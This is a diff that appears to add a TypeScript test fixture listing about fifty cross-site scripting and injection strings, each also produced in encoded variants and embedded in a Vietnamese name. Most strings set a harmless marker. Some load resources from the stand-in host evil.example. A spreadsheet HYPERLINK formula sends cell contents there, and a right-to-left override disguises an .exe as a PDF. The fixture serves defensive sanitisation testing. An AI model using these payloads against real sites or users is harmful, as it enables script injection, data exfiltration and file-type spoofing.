@@ -1,0 +1,68 @@
+/**
+ * What somebody might write, be called, or have a file called, to make the console of those who read it do something. Each would set
+ * `window.struck`, open a dialog or fetch something, were it ever taken for more than text.
+ */
+const strike = 'window.struck=1'
+
+const vectors: readonly string[] = [
+  `<script>${strike}</script>`,
+  `<ScRiPt>${strike}</sCrIpT>`,
+  `<script src="https://evil.example/x.js"></script>`,
+  `<img src=x onerror=${strike}>`,
+  `<img src="x" onerror="${strike}">`,
+  `<img/src=x/onerror=${strike}>`,
+  `<img src=https://evil.example/pixel.png>`,
+  `<svg onload=${strike}>`,
+  `<svg><script>${strike}</script></svg>`,
+  `<svg><animate onbegin=${strike} attributeName=x dur=1s>`,
+  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${strike}</script></svg>#x"/></svg>`,
+  `<body onload=${strike}>`,
+  `<iframe src="javascript:${strike}"></iframe>`,
+  `<iframe srcdoc="<script>parent.struck=1</script>"></iframe>`,
+  `<object data="javascript:${strike}"></object>`,
+  `<embed src="javascript:${strike}">`,
+  `<a href="javascript:${strike}">bấm vào đây</a>`,
+  `<a href="data:text/html,<script>opener.struck=1</script>">x</a>`,
+  `<form action="javascript:${strike}"><button>Gửi</button></form>`,
+  `<input autofocus onfocus=${strike}>`,
+  `<details open ontoggle=${strike}>`,
+  `<video><source onerror=${strike}></video>`,
+  `<audio src=x onerror=${strike}>`,
+  `<marquee onstart=${strike}>`,
+  `<style>@import 'https://evil.example/x.css';</style>`,
+  `<link rel=stylesheet href="https://evil.example/x.css">`,
+  `<meta http-equiv=refresh content="0;url=javascript:${strike}">`,
+  `<base href="https://evil.example/">`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${strike}>`,
+  `<template><img src=x onerror=${strike}></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${strike}>">`,
+  `"><img src=x onerror=${strike}>`,
+  `'><svg/onload=${strike}>`,
+  `--><script>${strike}</script>`,
+  `</textarea><script>${strike}</script>`,
+  `</title><script>${strike}</script>`,
+  `</script><script>${strike}</script>`,
+  `]]><script>${strike}</script>`,
+  `javascript:${strike}`,
+  `JaVaScRiPt:${strike}`,
+  `java\tscript:${strike}`,
+  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuc3RydWNrPTE8L3NjcmlwdD4=`,
+  `{{constructor.constructor('${strike}')()}}`,
+  `\${${strike}}`,
+  `{"__html":"<img src=x onerror=${strike}>"}`,
+  `[object Object]<img src=x onerror=${strike}>`,
+  `onmouseover=${strike} x=`,
+  `' onclick='${strike}`,
+  `<x contenteditable onblur=${strike} autofocus>`,
+  `\u202e<img src=x onerror=${strike}>\u202c`,
+  `hop dong.pdf\u202egpj.exe`,
+  `=HYPERLINK("https://evil.example/?"&A1,"x")`,
+]
+
+/** Each vector as it is, spelt as entities, with what old parsers skipped, and inside a name somebody might bear. */
+export const hostileTexts: readonly string[] = vectors.flatMap((vector) => [
+  vector,
+  vector.replace(/[<>"']/g, (mark) => `&#${mark.charCodeAt(0)};`),
+  vector.replace(/</g, '<\u0000').replace(/script/gi, 'scr\u00adipt'),
+  `Nguyễn ${vector} Thị`,
+])
